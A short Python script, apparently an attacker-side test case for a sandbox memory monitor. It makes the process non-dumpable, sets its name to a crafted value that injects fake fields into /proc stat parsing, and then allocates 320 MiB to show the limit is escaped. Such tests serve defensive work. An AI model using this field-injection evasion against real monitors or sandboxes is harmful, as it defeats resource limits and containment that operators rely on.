import time

from attacker import syscall

PR_SET_DUMPABLE, PR_SET_NAME = 4, 15
syscall("prctl", PR_SET_DUMPABLE, 0, 0, 0, 0)
syscall("prctl", PR_SET_NAME, b") R 1 1 (", 0, 0, 0)
heap = []
for _ in range(40):
    heap.append(b"x" * (8 << 20))
    time.sleep(0.01)
print("ESCAPED: 320 MiB")
